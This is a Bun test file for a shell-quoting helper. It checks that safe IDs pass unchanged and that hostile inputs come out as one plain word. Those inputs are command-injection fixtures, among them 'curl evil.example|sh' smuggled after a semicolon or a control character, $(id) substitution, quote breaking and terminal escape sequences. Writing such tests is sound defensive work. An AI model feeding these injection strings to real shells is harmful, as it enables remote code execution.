import { expect, test } from 'bun:test'
import { $ } from 'bun'

const page = './page/dom.js' // A path in a constant is not typed, because the file is no TypeScript.
const { shellWord } = (await import(page)) as { shellWord: (text: string) => string }

test.each(['pay_Zk3nT0a7yQm1c5VbXw9uRd', '0x12:3', 'invoice.paid'])('shell quoting leaves %s unchanged', (id) => {
  expect(shellWord(id)).toBe(id)
})

test.each([
  'invoice.paid;curl evil.example|sh;#',
  "it's $(id) `id`",
  "'; id; '",
  'a b\nc',
  '-- --help',
  '',
  'a\u0003curl evil.example|sh',
  '\u001b[201~id',
  "it's \u0007 \\0101 %s",
  'id \u202e#',
  'a\u2028b',
])('security: shell quoting makes %j one word that pastes as plain text', async (text) => {
  expect(shellWord(text)).not.toMatch(/[\p{C}\u2028]/u)
  const words = await $`sh -c ${`printf '%s|' ${shellWord(text)}`}`.text()
  expect(words).toBe(`${text}|`)
})
